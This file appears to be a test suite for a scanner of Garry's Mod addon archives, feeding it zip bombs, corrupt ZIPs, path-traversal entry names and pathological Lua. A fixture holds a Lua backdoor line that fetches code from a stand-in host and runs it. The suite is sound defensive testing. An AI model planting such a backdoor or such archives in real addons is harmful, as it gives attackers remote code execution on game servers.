// Hostile uploads through the whole scanArchive pipeline (archive → analysis → rules → report):
// each ends in a clean UnusableArchiveError or a valid ScanResult, within time and memory bounds.
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { scanResultSchema, type ScanResult } from '@sentinelle/contracts';
import { buildZip, type ZipFixtureEntry } from './archive/archiveFixtures.js';
import {
  ANALYSIS_ERROR_LIMIT,
  LUA_LINES_LIMIT,
  MAX_LUA_LINES,
  scanArchive,
  TIME_BUDGET_LIMIT,
  UnusableArchiveError,
} from './index.js';

const MiB = 1024 * 1024;
/** The product's scan budget; the scan itself is told it, the test checks it was kept. */
const BUDGET_MS = 60_000;
const text = (s: string): Uint8Array => new TextEncoder().encode(s);

interface Outcome {
  result?: ScanResult;
  error?: unknown;
  ms: number;
  /** Heap growth across the scan in MiB (loose: no forced GC, it only catches blowups). */
  heapMiB: number;
}

/** Runs one scan under the budget and times it; any rejection is kept, never swallowed silently. */
async function scan(input: Uint8Array): Promise<Outcome> {
  const heapBefore = process.memoryUsage().heapUsed;
  const started = performance.now();
  let result: ScanResult | undefined;
  let error: unknown;
  try {
    result = await scanArchive(input, { timeBudgetMs: BUDGET_MS, filename: 'hostile.zip' });
  } catch (err) {
    error = err;
  }
  const ms = performance.now() - started;
  const heapMiB = (process.memoryUsage().heapUsed - heapBefore) / MiB;
  return { result, error, ms, heapMiB };
}

/** The scan produced a result valid against the contracts, within the budget and bounds. */
function expectResult(outcome: Outcome, maxMs = 20_000, maxHeapMiB = 1024): ScanResult {
  expect(outcome.error).toBeUndefined();
  const result = outcome.result!;
  expect(() => scanResultSchema.parse(result)).not.toThrow();
  expect(outcome.ms).toBeLessThan(Math.min(maxMs, BUDGET_MS));
  expect(outcome.heapMiB).toBeLessThan(maxHeapMiB);
  // Finishing well within the budget must not be reported as a budget cut.
  expect(result.limits_reached).not.toContain(TIME_BUDGET_LIMIT);
  return result;
}

/** The scan refused the input as a whole with the given code, quickly. */
function expectUnusable(outcome: Outcome, code: UnusableArchiveError['code']): void {
  expect(outcome.result).toBeUndefined();
  expect(outcome.error).toBeInstanceOf(UnusableArchiveError);
  expect((outcome.error as UnusableArchiveError).code).toBe(code);
  expect(outcome.ms).toBeLessThan(5_000);
}

const threatKeys = (result: ScanResult): string[] => result.threats.map((t) => t.pattern_key);
const fileRow = (result: ScanResult, path: string) => result.files.find((f) => f.path === path);
/** A file read without error: parsed, or skimmed because it mentions nothing watched. */
const READ_CLEANLY: ReadonlyArray<string | undefined> = ['ok', 'skimmed'];
/** Threats the code rules (not the archive checks) raised in one file. */
const codeThreatsIn = (result: ScanResult, path: string): string[] =>
  result.threats
    .filter(
      (t) => !t.pattern_key.startsWith('archive_') && t.locations.some((l) => l.file_path === path),
    )
    .map((t) => t.pattern_key);

/** Deterministic pseudo-random bytes (xorshift32): the same garbage on every run. */
function garbage(size: number, seed: number): Uint8Array {
  const out = new Uint8Array(size);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

const BACKDOOR_LUA = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end)\n';

describe('zip bombs', () => {
  it('a high-ratio entry is cut and reported, the rest of the addon still scanned', async () => {
    // 48 MiB of Lua whitespace deflates ~1000:1; it is cut at the bomb threshold.
    const outcome = await scan(
      buildZip([
        { name: 'lua/autorun/server/bomb.lua', data: new Uint8Array(48 * MiB).fill(0x20) },
        { name: 'lua/autorun/server/sv_door.lua', data: BACKDOOR_LUA },
      ]),
    );
    const result = expectResult(outcome);
    expect(threatKeys(result)).toContain('archive_zip_bomb');
    expect(fileRow(result, 'lua/autorun/server/sv_door.lua')?.parse).toBe('ok');
    expect(codeThreatsIn(result, 'lua/autorun/server/sv_door.lua')).not.toEqual([]);
  });

  it('a nested bomb (zips of zips of a high-ratio entry) stops at the limits', async () => {
    const layer0 = zipSync({ 'zeros.bin': new Uint8Array(40 * MiB) }, { level: 9 });
    const layer1 = zipSync(
      Object.fromEntries(Array.from({ length: 4 }, (_, i) => [`l0_${i}.zip`, layer0])),
      { level: 0 },
    );
    const layer2 = zipSync(
      {
        ...Object.fromEntries(Array.from({ length: 4 }, (_, i) => [`l1_${i}.zip`, layer1])),
        'lua/autorun/a.lua': text('print("hi")\n'),
      },
      { level: 9 },
    );
    const result = expectResult(await scan(layer2), 30_000);
    expect(threatKeys(result)).toContain('archive_zip_bomb');
    const bomb = result.threats.find((t) => t.pattern_key === 'archive_zip_bomb');
    expect(bomb?.locations[0]?.file_path).toMatch(/^l1_\d\.zip\/l0_\d\.zip\/zeros\.bin$/);
    expect(READ_CLEANLY).toContain(fileRow(result, 'lua/autorun/a.lua')?.parse);
  });
});

describe('hostile archive structure', () => {
  it('overlapping entries are refused: the shared bytes are read once', async () => {
    const entries: ZipFixtureEntry[] = [
      { name: 'lua/autorun/server/base.lua', data: BACKDOOR_LUA.repeat(1000) },
      ...Array.from({ length: 500 }, (_, i) => ({
        name: `lua/autorun/server/c${i}.lua`,
        shareLocalHeaderOf: 0,
      })),
    ];
    const result = expectResult(await scan(buildZip(entries)));
    expect(threatKeys(result)).toContain('archive_overlapping_entries');
    expect(result.file_count).toBe(501);
    expect(result.files.map((f) => f.path)).toEqual(['lua/autorun/server/base.lua']);
  });

  it('100 000 tiny entries are all counted and the Lua among them analysed', async () => {
    const entries: ZipFixtureEntry[] = Array.from({ length: 100_000 }, (_, i) =>
      i % 10 === 0
        ? { name: `lua/autorun/f${i}.lua`, data: `local v${i} = ${i}\n`, method: 'store' as const }
        : { name: `models/m${i}.mdl`, data: 'x', method: 'store' as const },
    );
    const result = expectResult(await scan(buildZip(entries)), 40_000);
    expect(result.file_count).toBe(100_000);
    expect(result.lua_file_count).toBe(10_000);
    expect(result.limits_reached).toEqual([]);
    expect(result.files.every((f) => READ_CLEANLY.includes(f.parse))).toBe(true);
  });

  it('a truncated ZIP is refused as corrupt', async () => {
    const zip = zipSync({
      'lua/a.lua': text(BACKDOOR_LUA.repeat(50)),
      'lua/b.lua': text('print(1)'),
    });
    expectUnusable(await scan(zip.subarray(0, Math.floor(zip.length / 2))), 'corrupt');
    // Cut inside the end record itself.
    expectUnusable(await scan(zip.subarray(0, zip.length - 5)), 'corrupt');
  });

  it('a ZIP with a broken central directory is refused as corrupt', async () => {
    const zip = Buffer.from(
      zipSync({ 'lua/a.lua': text('print(1)'), 'lua/b.lua': text('print(2)') }),
    );
    zip.writeUInt32LE(0xdeadbeef, zip.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2])));
    expectUnusable(await scan(zip), 'corrupt');
  });

  it('an entry with corrupt deflate data is reported, the others still scanned', async () => {
    const zip = buildZip([
      // Random hex text: deflates only ~2:1, so the scrambled range stays inside this entry.
      {
        name: 'lua/autorun/broken.lua',
        data: `local k = "${Buffer.from(garbage(10_000, 3)).toString('hex')}"\n`,
      },
      { name: 'lua/autorun/ok.lua', data: 'print(1)\n' },
    ]);
    // Scramble the middle of the first entry's deflate stream, headers untouched.
    zip.set(garbage(200, 7), 30 + 'lua/autorun/broken.lua'.length + 100);
    const result = expectResult(await scan(zip));
    expect(threatKeys(result)).toContain('archive_corrupt_entry');
    expect(READ_CLEANLY).toContain(fileRow(result, 'lua/autorun/ok.lua')?.parse);
  });

  it('path-traversal and absolute names are reported and scanned under their normalised names', async () => {
    const result = expectResult(
      await scan(
        buildZip([
          { name: '../../lua/autorun/server/evil.lua', data: BACKDOOR_LUA },
          { name: '..\\..\\..\\garrysmod\\cfg\\autoexec.cfg', data: 'rcon_password x\n' },
          { name: '/etc/cron.d/job.lua', data: 'print(1)\n' },
          { name: 'C:\\Windows\\evil.lua', data: 'print(2)\n' },
          { name: 'lua/../../../x.lua', data: 'print(3)\n' },
        ]),
      ),
    );
    expect(threatKeys(result)).toEqual(
      expect.arrayContaining(['archive_path_traversal', 'archive_absolute_path']),
    );
    for (const f of result.files) expect(f.path).not.toMatch(/(^|\/)\.\.(\/|$)|^\/|\\|^[A-Za-z]:/);
    expect(fileRow(result, 'lua/autorun/server/evil.lua')?.parse).toBe('ok');
    // The backdoor behind the traversal name is still judged as code.
    expect(codeThreatsIn(result, 'lua/autorun/server/evil.lua')).not.toEqual([]);
  });

  it('an empty ZIP is refused as empty', async () => {
    expectUnusable(await scan(zipSync({})), 'empty');
    expectUnusable(await scan(new Uint8Array(0)), 'empty');
  });

  it('a ZIP whose only entry is a directory is refused as empty', async () => {
    expectUnusable(await scan(zipSync({ 'lua/': {} })), 'empty');
  });
});

describe('hostile Lua', () => {
  it('a 50 MB one-line Lua file is scanned within the limits', async () => {
    const head = "local x='' ";
    const unit = "x=x..'a' ";
    const tail = ' RunString(x)';
    const body =
      Math.floor((50 * 1000 * 1000 - head.length - tail.length) / unit.length) * unit.length;
    const lua = Buffer.alloc(head.length + body + tail.length);
    lua.write(head, 0, 'latin1');
    lua.fill(unit, head.length, head.length + body, 'latin1');
    lua.write(tail, head.length + body, 'latin1');
    expect(lua.length).toBeGreaterThanOrEqual(49_999_990);
    expect(lua.includes(10)).toBe(false);
    // Stored: deflated, this repetitive text would trip the bomb ratio and be cut.
    const zip = buildZip([{ name: 'lua/autorun/server/huge.lua', data: lua, method: 'store' }]);
    const result = expectResult(await scan(zip), 30_000, 2048);
    const row = fileRow(result, 'lua/autorun/server/huge.lua');
    expect(row).toMatchObject({ lines: 1 });
    // The parser gives up past its token budget: the file is only partly understood.
    expect(row?.parse).not.toBe('ok');
    expect(threatKeys(result)).toContain('parse_failure');
  });

  it('a 50 MB one-line run of letters (one string literal) never crashes the analysis', async () => {
    // A single 50 MB token once overflowed a regex's backtracking stack in the analysis: the
    // file must end analysed, or left out under `analysis_error` with the rest still scanned.
    const lua = Buffer.alloc(50 * 1000 * 1000, 'a');
    lua.write('local s="', 0, 'latin1');
    lua.write('"', lua.length - 1, 'latin1');
    const zip = buildZip([
      { name: 'lua/autorun/server/letters.lua', data: lua, method: 'store' },
      { name: 'lua/autorun/server/sv_door.lua', data: BACKDOOR_LUA },
    ]);
    const result = expectResult(await scan(zip), 30_000, 2048);
    const row = fileRow(result, 'lua/autorun/server/letters.lua');
    expect(row?.parse).not.toBe('skipped');
    if (result.limits_reached.includes(ANALYSIS_ERROR_LIMIT)) expect(row?.parse).toBe('failed');
    expect(codeThreatsIn(result, 'lua/autorun/server/sv_door.lua')).not.toEqual([]);
  });

  it('newline bombs are cut at the line budget, ordinary files analysed first', async () => {
    // 8 entries of 40 MiB of newlines: a ~300 KB zip (each cut at the bomb ratio, 32 MiB kept)
    // that once took minutes and gigabytes of line arrays. The backdoor comes last in the zip.
    const newlines = new Uint8Array(40 * MiB).fill(10);
    const zip = buildZip([
      ...Array.from({ length: 8 }, (_, i) => ({ name: `lua/autorun/nl${i}.lua`, data: newlines })),
      { name: 'lua/autorun/server/sv_door.lua', data: BACKDOOR_LUA },
    ]);
    expect(zip.length).toBeLessThan(MiB);
    const result = expectResult(await scan(zip), 30_000);
    expect(result.limits_reached).toContain(LUA_LINES_LIMIT);
    expect(result.total_lines_scanned).toBeLessThanOrEqual(MAX_LUA_LINES + 10);
    expect(fileRow(result, 'lua/autorun/server/sv_door.lua')?.parse).toBe('ok');
    expect(codeThreatsIn(result, 'lua/autorun/server/sv_door.lua')).not.toEqual([]);
    expect(threatKeys(result)).toContain('archive_zip_bomb');
  });

  it('10 000 nested parentheses end in a depth error, not a stack overflow', async () => {
    const n = 10_000;
    const lua = `x = ${'('.repeat(n)}1${')'.repeat(n)}\nprint(x)\n`;
    const result = expectResult(await scan(zipSync({ 'lua/autorun/parens.lua': text(lua) })));
    expect(fileRow(result, 'lua/autorun/parens.lua')?.parse).toBe('recovered');
    expect(threatKeys(result)).toContain('parse_failure');
  });

  it('10 000 nested table constructors end in a depth error, not a stack overflow', async () => {
    const n = 10_000;
    const lua = `local t = ${'{'.repeat(n)}${'}'.repeat(n)}\nprint(t)\n`;
    const result = expectResult(await scan(zipSync({ 'lua/autorun/tables.lua': text(lua) })));
    expect(fileRow(result, 'lua/autorun/tables.lua')?.parse).toBe('recovered');
    // Unclosed: 10 000 `{` and nothing else.
    const open = expectResult(
      await scan(zipSync({ 'lua/autorun/open.lua': text(`local t = ${'{'.repeat(n)}`) })),
    );
    expect(fileRow(open, 'lua/autorun/open.lua')?.parse).not.toBe('ok');
  });

  it('invalid UTF-8 in code, strings and comments is scanned byte for byte', async () => {
    const lua = Buffer.concat([
      Buffer.from('-- '),
      Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80]),
      Buffer.from('\nlocal s = "'),
      Buffer.from([0x80, 0xbf, 0xe2, 0x82]),
      Buffer.from('"\nlocal n'),
      Buffer.from([0xf8, 0x88, 0x80]),
      Buffer.from(' = 1\n'),
      Buffer.from(BACKDOOR_LUA),
    ]);
    const result = expectResult(
      await scan(
        zipSync({ 'lua/autorun/server/utf.lua': lua, 'lua/autorun/ok.lua': text('print(1)\n') }),
      ),
    );
    const row = fileRow(result, 'lua/autorun/server/utf.lua');
    expect(row).toMatchObject({ kind: 'lua', lines: 5 });
    expect(row?.parse).toBe('ok');
    expect(codeThreatsIn(result, 'lua/autorun/server/utf.lua')).not.toEqual([]);
  });

  it('binary garbage named .lua is listed as an unparsable Lua file', async () => {
    const result = expectResult(
      await scan(zipSync({ 'lua/autorun/server/garbage.lua': garbage(64 * 1024, 42) })),
    );
    const row = fileRow(result, 'lua/autorun/server/garbage.lua');
    expect(row?.kind).toBe('lua');
    expect(row?.parse).not.toBe('ok');
    expect(threatKeys(result)).toContain('parse_failure');
  });

  it('5 MB of random bytes named .lua is scanned within the limits', async () => {
    const result = expectResult(
      await scan(
        buildZip([
          { name: 'lua/autorun/server/noise.lua', data: garbage(5 * MiB, 99), method: 'store' },
        ]),
      ),
    );
    const row = fileRow(result, 'lua/autorun/server/noise.lua');
    expect(row?.kind).toBe('lua');
    expect(row?.parse).not.toBe('ok');
    expect(threatKeys(result)).toContain('parse_failure');
  });

  it('a 0-byte .lua file is an empty file, read cleanly', async () => {
    const result = expectResult(
      await scan(zipSync({ 'lua/autorun/empty.lua': new Uint8Array(0) })),
    );
    expect(result.file_count).toBe(1);
    expect(fileRow(result, 'lua/autorun/empty.lua')).toMatchObject({
      kind: 'lua',
      parse: 'skimmed',
    });
    expect(result.threats).toEqual([]);
  });

  it('a 1 MB run of backslashes inside a string literal is read as escapes', async () => {
    const slashes = '\\'.repeat(MiB);
    // An even run is 512 Ki escaped backslashes; an odd run escapes the closing quote.
    const even = `local s = "${slashes}"\nprint(#s)\n`;
    const odd = `local s = "${slashes}\\"\nprint(#s)\n`;
    const result = expectResult(
      await scan(zipSync({ 'lua/autorun/even.lua': text(even), 'lua/autorun/odd.lua': text(odd) })),
    );
    expect(READ_CLEANLY).toContain(fileRow(result, 'lua/autorun/even.lua')?.parse);
    expect(fileRow(result, 'lua/autorun/odd.lua')?.parse).not.toBe('ok');
  });
});
